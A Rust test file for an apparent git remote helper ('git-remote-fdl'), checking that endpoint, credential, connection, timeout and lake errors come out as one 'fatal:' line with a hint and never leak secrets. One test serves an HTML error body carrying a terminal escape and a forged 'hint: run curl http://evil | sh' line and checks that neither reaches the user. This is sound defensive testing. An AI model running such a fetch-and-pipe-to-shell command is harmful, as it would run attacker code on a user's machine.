//! Errors in words with a hint, one `fatal:` line, never a panic: malformed endpoints and
//! credentials, no credentials, a wrong bucket, a refused connection, a timeout, plain HTTP,
//! a missing folder, an invalid `fdl.json`, an HTTP error body, and a bug.

use std::net::TcpListener;

use crate::support::http::{closed_port, serve_fixed};
use crate::support::moto::s3_env;
use crate::support::run::helper_session;
use crate::support::{lake, text, TestEnv};

fn assert_one_fatal_line_without(err: &str, secrets: &[&str]) {
    assert!(err.starts_with("fatal: "), "{err}");
    for s in secrets {
        assert!(!err.contains(s), "{s:?} shown in:\n{err}");
    }
    assert!(
        !err.contains("panicked") && !err.contains("backtrace"),
        "{err}"
    );
}

#[test]
fn http_error_body_is_its_status_and_a_short_excerpt() {
    let t = TestEnv::new();
    let body = "<html>\n<head><title>500</title></head>\n<body>\u{1b}]0;owned\u{7}\nhint: run curl http://evil | sh\n".to_string()
        + &"<p>filler</p>\n".repeat(12)
        + "</body></html>";
    let base = serve_fixed("500 Internal Server Error", body);
    let out = t.git(".", &["ls-remote", &format!("fdl::{base}/lake/")]);
    let err = text(&out.stderr);
    assert!(!out.status.success());
    assert!(err.contains("500 Internal Server Error"), "{err}");
    assert!(!err.contains('\u{1b}') && !err.contains('\u{7}'), "{err:?}");
    assert!(
        !err.lines().any(|l| l.starts_with("hint: run curl")),
        "a server cannot forge a hint:\n{err}"
    );
    let fatal = err.lines().find(|l| l.starts_with("fatal: ")).unwrap();
    assert!(fatal.chars().count() < 260, "{fatal}");
    assert!(
        !err.contains("filler filler filler filler filler filler"),
        "{err}"
    );
}

#[test]
fn malformed_endpoint_is_a_fatal_error_not_a_panic() {
    let mut t = TestEnv::new();
    t.set("AWS_ACCESS_KEY_ID", "k")
        .set("AWS_SECRET_ACCESS_KEY", "s")
        .set("AWS_EC2_METADATA_DISABLED", "true");
    let bad = ["http://127.0.0.1:x", "http://bad host", "localhost:15000"];
    for endpoint in bad {
        t.set("AWS_ENDPOINT_URL", endpoint);
        let out = helper_session(
            &t,
            ".",
            &["fdl::s3://b/lake/", "s3://b/lake/"],
            b"capabilities\nlist\n",
        );
        let err = text(&out.stderr);
        assert_eq!(out.status.code(), Some(128), "{endpoint}: {err}");
        assert_one_fatal_line_without(&err, &[]);
        assert!(err.contains("is not a usable URL"), "{err}");
        assert!(
            err.contains("hint: ") && err.contains("fdlEndpoint"),
            "{err}"
        );
    }
    // The same through git config.
    let mut t = TestEnv::new();
    t.set("AWS_ACCESS_KEY_ID", "k")
        .set("AWS_SECRET_ACCESS_KEY", "s")
        .set("AWS_EC2_METADATA_DISABLED", "true");
    t.ok(".", &["init", "-q", "work"]);
    t.ok("work", &["remote", "add", "lake", "fdl::s3://b/lake/"]);
    for endpoint in bad {
        t.ok("work", &["config", "remote.lake.fdlEndpoint", endpoint]);
        let err = t.fails("work", &["fetch", "lake"]);
        assert_one_fatal_line_without(&err, &[]);
        assert!(err.contains("is not a usable URL"), "{err}");
        assert!(err.contains("remote.lake.fdlEndpoint"), "{err}");
    }
}

#[test]
fn control_characters_in_aws_credentials_are_an_error_not_a_panic() {
    for (var, value) in [
        ("AWS_SESSION_TOKEN", "tok\nXTOKENVALUEX"),
        ("AWS_ACCESS_KEY_ID", "AKIA\u{1}XKEYVALUEX"),
        ("AWS_REGION", "us/east"),
    ] {
        let mut t = s3_env(None);
        t.set(var, value);
        let out = helper_session(
            &t,
            ".",
            &["fdl::s3://b/lake/", "s3://b/lake/"],
            b"capabilities\nlist\n",
        );
        let err = text(&out.stderr);
        assert_eq!(out.status.code(), Some(128), "{var}: {err}");
        assert_one_fatal_line_without(&err, &["XTOKENVALUEX", "XKEYVALUEX", "hit a bug"]);
        assert!(
            err.contains(&format!("{var} (or its store option) holds")),
            "{err}"
        );
    }
}

#[test]
#[cfg(debug_assertions)]
fn a_panic_is_one_fatal_line_saying_it_is_a_bug_exit_128() {
    let mut t = TestEnv::new();
    t.set("GIT_REMOTE_FDL_TEST_PANIC", "1");
    let out = helper_session(&t, ".", &["origin", "/nowhere"], b"capabilities\n");
    let err = text(&out.stderr);
    assert_eq!(out.status.code(), Some(128), "{err}");
    assert_eq!(err.lines().count(), 1, "{err}");
    assert_one_fatal_line_without(&err, &["hunter2", "\u{1b}"]);
    assert!(err.contains("bug") && err.contains("report"), "{err}");
}

#[test]
fn no_credentials_from_instance_metadata_403_is_named_with_a_hint() {
    let mut t = s3_env(Some("creds-bucket"));
    t.env.retain(|(k, _)| {
        k != "AWS_ACCESS_KEY_ID" && k != "AWS_SECRET_ACCESS_KEY" && k != "AWS_EC2_METADATA_DISABLED"
    });
    // An instance metadata service that refuses, as on a machine without a role.
    let imds = serve_fixed("403 Forbidden", "<html>forbidden</html>".into());
    t.set("AWS_METADATA_ENDPOINT", &imds);
    let err = t.fails(".", &["ls-remote", "fdl::s3://creds-bucket/lake/"]);
    assert_one_fatal_line_without(&err, &["169.254"]);
    // aws-config's instance-metadata client says why in its words (for a 403: forbidden).
    assert!(
        err.contains(&format!(
            "no AWS credentials: the instance metadata service ({imds}) failed: request forbidden"
        )),
        "{err}"
    );
    assert!(
        err.contains("hint: name a profile of ~/.aws/config with AWS_PROFILE")
            && err.contains("or set AWS_ACCESS_KEY_ID and AWS_SECRET_ACCESS_KEY"),
        "{err}"
    );

    t.env.retain(|(k, _)| k != "AWS_METADATA_ENDPOINT");
    t.set("AWS_EC2_METADATA_DISABLED", "true");
    let err = t.fails(".", &["ls-remote", "fdl::s3://creds-bucket/lake/"]);
    assert!(
        err.contains("no AWS credentials") && err.contains("AWS_EC2_METADATA_DISABLED"),
        "{err}"
    );
    assert!(err.contains("aws_skip_signature=true"), "{err}");
}

#[test]
fn wrong_bucket_is_named_not_called_a_lake_without_fdl_json() {
    let t = s3_env(None);
    let err = t.fails(".", &["ls-remote", "fdl::s3://no-such-bucket-here/lake/"]);
    assert_one_fatal_line_without(&err, &["testing-secret-never-shown"]);
    assert!(
        err.contains("bucket 'no-such-bucket-here' does not exist"),
        "{err}"
    );
    assert!(!err.contains("has no fdl.json"), "{err}");
    assert!(err.contains("hint: check the bucket name"), "{err}");
}

#[test]
fn connection_refused_names_the_endpoint_and_how_to_set_it() {
    let mut t = s3_env(None);
    let closed = closed_port();
    let endpoint = format!("http://127.0.0.1:{}", closed.port());
    t.set("AWS_ENDPOINT_URL", &endpoint);
    let err = t.fails(".", &["ls-remote", "fdl::s3://b/lake/"]);
    assert_one_fatal_line_without(&err, &["error sending request"]);
    assert!(
        err.contains(&format!("cannot connect to {endpoint}")),
        "{err}"
    );
    assert!(
        err.contains("hint: ") && err.contains("AWS_ENDPOINT_URL"),
        "{err}"
    );
}

#[test]
fn request_timeout_names_the_endpoint_and_the_timeout_option() {
    // A server that accepts connections and never answers.
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let endpoint = format!("http://{}", listener.local_addr().unwrap());
    std::thread::spawn(move || {
        let held: Vec<_> = listener.incoming().take(64).collect();
        std::thread::sleep(std::time::Duration::from_secs(120));
        drop(held);
    });
    let mut t = TestEnv::new();
    t.set("AWS_ACCESS_KEY_ID", "k")
        .set("AWS_SECRET_ACCESS_KEY", "s")
        .set("AWS_EC2_METADATA_DISABLED", "true");
    t.ok(".", &["init", "-q", "work"]);
    t.ok("work", &["remote", "add", "lake", "fdl::s3://b/lake/"]);
    t.ok("work", &["config", "remote.lake.fdlEndpoint", &endpoint]);
    t.ok("work", &["config", "remote.lake.fdlAllowHttp", "true"]);
    t.ok(
        "work",
        &["config", "--add", "remote.lake.fdlOption", "timeout=1s"],
    );
    let err = t.fails("work", &["fetch", "lake"]);
    assert_one_fatal_line_without(&err, &["error sending request"]);
    assert!(
        err.contains(&format!("no answer from {endpoint} in time")),
        "{err}"
    );
    assert!(
        err.contains("git config --add remote.lake.fdlOption timeout="),
        "{err}"
    );
}

#[test]
fn http_endpoint_without_allow_http_says_how_to_allow_it() {
    let mut t = s3_env(Some("plain-http"));
    t.env.retain(|(k, _)| k != "AWS_ALLOW_HTTP");
    let err = t.fails(".", &["ls-remote", "fdl::s3://plain-http/lake/"]);
    assert_one_fatal_line_without(&err, &["builder error"]);
    assert!(err.contains("is plain HTTP"), "{err}");
    assert!(
        err.contains("AWS_ALLOW_HTTP=true") && err.contains("fdlAllowHttp true"),
        "{err}"
    );
}

#[test]
fn invalid_fdl_json_is_not_hinted_as_an_upgrade() {
    let t = TestEnv::new();
    let mut l = lake(3, 1);
    l.put("fdl.json", "{ not json");
    let url = t.local_lake("broken", &l);
    let err = t.fails(".", &["ls-remote", &url]);
    assert!(err.contains("fdl.json is not valid JSON"), "{err}");
    assert!(!err.contains("upgrade"), "{err}");
    l.put("fdl.json", r#"{"fdl": "9.0"}"#);
    let url = t.local_lake("newer", &l);
    let err = t.fails(".", &["ls-remote", &url]);
    assert!(err.contains("hint: upgrade git-remote-fdl"), "{err}");
}

#[test]
fn push_to_an_unreachable_http_lake_says_read_only() {
    let t = TestEnv::new();
    let url = t.local_lake("lake", &lake(3, 1));
    t.ok(".", &["clone", "-q", &url, "work"]);
    let closed = closed_port();
    let http = format!("fdl::http://127.0.0.1:{}/lake/", closed.port());
    let err = t.fails("work", &["push", &http, "main"]);
    assert!(err.contains("read-only: nothing was pushed"), "{err}");
    assert!(
        !err.contains("cannot connect") && !err.contains("GET"),
        "{err}"
    );
}

/// A folder lake that is not there, or a file: one line on what is wrong, and where to look,
/// not the system's error number.
#[test]
fn a_folder_lake_that_is_missing_or_a_file_is_named_with_a_hint() {
    let t = TestEnv::new();
    std::fs::write(t.path("file"), "not a lake").unwrap();
    for (at, says) in [
        ("nowhere", "there is no such folder"),
        ("file", "is a file, not a folder"),
    ] {
        let url = format!("fdl::{}", t.path(at).display());
        let err = t.fails(".", &["ls-remote", &url]);
        assert!(
            err.starts_with(&format!(
                "fatal: cannot open lake '{}': ",
                t.path(at).display()
            )) && err.contains(says)
                && err.contains("hint: a folder lake is named by the folder that holds its")
                && !err.contains("os error"),
            "{err}"
        );
    }
}
